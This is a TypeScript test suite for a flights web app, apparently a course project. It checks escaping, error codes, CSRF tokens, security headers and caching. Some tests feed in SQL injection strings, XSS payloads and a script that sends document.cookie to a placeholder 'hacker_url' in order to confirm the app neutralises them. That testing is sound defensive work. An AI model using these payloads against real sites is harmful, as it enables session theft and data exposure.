// Every page renders, escapes what it shows and carries the kit's headers.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { sql } from '@rampart/data';
import { startFlights, Browser, type Flights } from './harness.ts';

let flights: Flights;
before(async () => {
  flights = await startFlights();
});
after(() => flights.stop());

test('the departures board lists the next departures from now, in order, with links to each flight', async () => {
  const res = await fetch(flights.base);
  assert.equal(res.status, 200);
  assert.equal(res.headers.get('content-type'), 'text/html; charset=utf-8');
  const page = await res.text();
  const expected = await flights.db.many<{ id: number }>(sql`select id::int as id from flights where departure >= now() order by departure, id limit 50`);
  const shown = [...page.matchAll(/<a href="\/flights\/(\d+)">/g)].map((m) => Number(m[1]));
  assert.deepEqual(shown, expected.map((r) => r.id));
  assert.match(page, /<a href="\/login">Log in<\/a>/, 'an anonymous visitor sees the login link');
  assert.equal(res.headers.getSetCookie().length, 0, 'an anonymous board view creates no session');
});

test('a flight page shows the flight; an unknown id is 404; a malformed id is 400, not 500', async () => {
  const f = await flights.db.one<{ id: number; number: string; origin: string; destination: string }>(sql`
    select f.id::int as id, f.number, o.code as origin, d.code as destination from flights f
    join airports o on o.id = f.origin_id join airports d on d.id = f.destination_id order by f.id limit 1`);
  const page = await (await fetch(`${flights.base}/flights/${f.id}`)).text();
  assert.match(page, new RegExp(`Flight ${f.number}: ${f.origin} → ${f.destination}`));
  assert.match(page, new RegExp(`<a href="/login\\?next=/flights/${f.id}">Log in</a> to book`));
  assert.equal((await fetch(`${flights.base}/flights/999999`)).status, 404);
  for (const bad of ['abc', '0', '-1', '1.5', '99999999999999999999']) {
    assert.equal((await fetch(`${flights.base}/flights/${bad}`)).status, 400, bad);
  }
});

async function searchCodes(q: string): Promise<string[]> {
  const res = await fetch(`${flights.base}/search?q=${encodeURIComponent(q)}`);
  assert.equal(res.status, 200);
  const page = await res.text();
  return [...page.matchAll(/<li><strong>([A-Z]{3})<\/strong>/g)].map((m) => m[1] as string).sort();
}

test('search finds airports by city and by code, and their next departures', async () => {
  assert.deepEqual(await searchCodes('paris'), ['CDG', 'ORY']);
  assert.deepEqual(await searchCodes('JFK'), ['JFK']);
  assert.deepEqual(await searchCodes('lim'), ['LIM'], 'city contains, code equals: no partial code matches');
  const page = await (await fetch(`${flights.base}/search?q=tokyo`)).text();
  assert.match(page, /<h2>Next departures<\/h2>/);
  assert.match(page, /Tokyo \((NRT|HND)\)<\/td>/);
});

test("search with ' OR 1=1 -- and with LIKE wildcards returns only matching rows", async () => {
  assert.deepEqual(await searchCodes("' OR 1=1 --"), []);
  assert.deepEqual(await searchCodes("x' OR '1'='1"), []);
  assert.deepEqual(await searchCodes('%'), [], '% is a literal percent sign, not "anything"');
  assert.deepEqual(await searchCodes('_'), []);
  assert.deepEqual(await searchCodes('\\'), []);
  const page = await (await fetch(`${flights.base}/search?q=${encodeURIComponent("' OR 1=1 --")}`)).text();
  assert.match(page, /No airport matches “&#39; OR 1=1 --”/);
});

test('search output is escaped: the query is shown as text, also in the input value', async () => {
  const q = '"><script>alert(1)</script>';
  const page = await (await fetch(`${flights.base}/search?q=${encodeURIComponent(q)}`)).text();
  assert.doesNotMatch(page, /<script>alert/);
  assert.match(page, /value="&quot;&gt;&lt;script&gt;alert\(1\)&lt;\/script&gt;"/);
  assert.equal((await fetch(`${flights.base}/search?q=${'a'.repeat(101)}`)).status, 400, 'q is bounded');
});

test("404 shows the requested path as text: the lecture's XSS page, fixed", async () => {
  const res = await fetch(`${flights.base}/${encodeURIComponent("<script>alert('hi')</script>")}`);
  assert.equal(res.status, 404);
  const page = await res.text();
  assert.match(page, /<h1>Not Found: \/&lt;script&gt;alert\(&#39;hi&#39;\)&lt;\/script&gt;<\/h1>/);
  assert.doesNotMatch(page, /<script>/);
  const cookie = await (await fetch(`${flights.base}/${encodeURIComponent('<script>document.write(\'<img src="hacker_url?cookie=\'+document.cookie+\'">\')</script>')}`)).text();
  assert.doesNotMatch(cookie, /<script>|<img/);
  const api = await fetch(`${flights.base}/api/nothing`);
  assert.equal(api.status, 404);
  assert.deepEqual(await api.json(), { statusCode: 404, error: 'Not Found', message: 'No such API route.' });
});

test('the forms render with a CSRF token: login, register, password reset', async () => {
  const browser = new Browser(flights.base);
  for (const path of ['/login', '/register', '/password-reset']) {
    const res = await browser.get(path);
    assert.equal(res.status, 200, path);
    assert.match(await res.text(), /<input type="hidden" name="_csrf" value="[A-Za-z0-9_-]{20,}">/, path);
  }
});

test('every answer carries x-served-by and the security headers, with no inline script or style to allow', async () => {
  for (const path of ['/', '/login', '/nowhere', '/healthz', '/flights/abc']) {
    const res = await fetch(flights.base + path);
    assert.equal(res.headers.get('x-served-by'), 'test-1', path);
    const csp = res.headers.get('content-security-policy') ?? '';
    // The board is public (a shared cache may replay it): its policy has no nonce, so no inline script runs at all.
    if (path === '/') assert.match(csp, /script-src 'strict-dynamic'; style-src 'self';/, path);
    else assert.match(csp, /script-src 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'/, path);
    assert.match(csp, /frame-ancestors 'none'/, path);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff', path);
    assert.equal(res.headers.get('x-frame-options'), 'DENY', path);
    assert.equal(res.headers.get('x-powered-by'), null, path);
    const body = await res.text();
    assert.doesNotMatch(body, /<script|<style| style=/, path);
  }
  const css = await fetch(`${flights.base}/static/app.css`);
  assert.equal(css.headers.get('content-type'), 'text/css; charset=utf-8');
});

test('the layout links the fingerprinted stylesheet: immutable for a year; the old URL still works, revalidated', async () => {
  const page = await (await fetch(`${flights.base}/login`)).text();
  const href = /<link rel="stylesheet" href="([^"]+)">/.exec(page)?.[1] ?? '';
  const css = await readFile(new URL('../public/app.css', import.meta.url));
  assert.equal(href, `/static/app.${createHash('sha256').update(css).digest('hex').slice(0, 8)}.css`);
  const res = await fetch(flights.base + href);
  assert.equal(res.status, 200);
  assert.equal(res.headers.get('cache-control'), 'public, max-age=31536000, immutable');
  assert.equal(res.headers.get('content-type'), 'text/css; charset=utf-8');
  assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
  assert.deepEqual(Buffer.from(await res.arrayBuffer()), css);
  const etag = res.headers.get('etag') ?? '';
  const plain = await fetch(`${flights.base}/static/app.css`);
  assert.equal(plain.headers.get('cache-control'), 'no-cache');
  assert.equal(plain.headers.get('etag'), etag);
  assert.equal((await fetch(flights.base + href, { headers: { 'if-none-match': etag } })).status, 304);
  assert.equal((await fetch(`${flights.base}/static/app.css`, { headers: { 'if-none-match': etag } })).status, 304);
  const old = await fetch(`${flights.base}/static/app.00000000.css`, { redirect: 'manual' });
  assert.equal(old.status, 307);
  assert.equal(old.headers.get('location'), href);
  assert.equal((await fetch(`${flights.base}/static/../src/app.ts`)).status, 404);
});

test('pages carry a strong ETag and Cache-Control: no-cache, and a matching If-None-Match gets a 304', async () => {
  const res = await fetch(`${flights.base}/search?q=paris`);
  const etag = res.headers.get('etag') ?? '';
  assert.match(etag, /^"[A-Za-z0-9_-]{22}"$/);
  assert.equal(res.headers.get('cache-control'), 'no-cache');
  const again = await fetch(`${flights.base}/search?q=paris`, { headers: { 'if-none-match': etag } });
  assert.equal(again.status, 304);
  assert.equal(again.headers.get('etag'), etag);
  assert.equal(await again.text(), '');
  assert.equal((await fetch(`${flights.base}/search?q=tokyo`, { headers: { 'if-none-match': etag } })).status, 200);
});

test('the board for anonymous visitors: public for a few seconds at most, never past its first departure; strong ETag, 304; no session', async () => {
  const res = await fetch(flights.base);
  const cacheControl = res.headers.get('cache-control') ?? '';
  const m = /^public, max-age=0, s-maxage=(\d+)(?:, stale-while-revalidate=(\d+))?$/.exec(cacheControl);
  assert.ok(m, cacheControl);
  const page = await res.text();
  const first = /<tr><td>(\d{4}-\d\d-\d\d \d\d:\d\d) UTC<\/td>/.exec(page)?.[1] ?? assert.fail('no departure on the board');
  const secondsLeft = (Date.parse(`${first.replace(' ', 'T')}:00Z`) + 60_000 - Date.now()) / 1000;
  assert.ok(Number(m[1]) <= 5 && Number(m[1]) + Number(m[2] ?? 0) <= Math.max(0, secondsLeft), `${cacheControl} with the first departure at ${first}`);
  const etag = res.headers.get('etag') ?? '';
  assert.match(etag, /^"/);
  assert.equal(res.headers.getSetCookie().length, 0);
  const again = await fetch(flights.base, { headers: { 'if-none-match': etag } });
  assert.equal(again.status, 304);
  assert.equal(again.headers.get('etag'), etag);
});

test('/healthz answers ok after a query', async () => {
  const res = await fetch(`${flights.base}/healthz`);
  assert.equal(res.status, 200);
  assert.equal(await res.text(), 'ok');
});
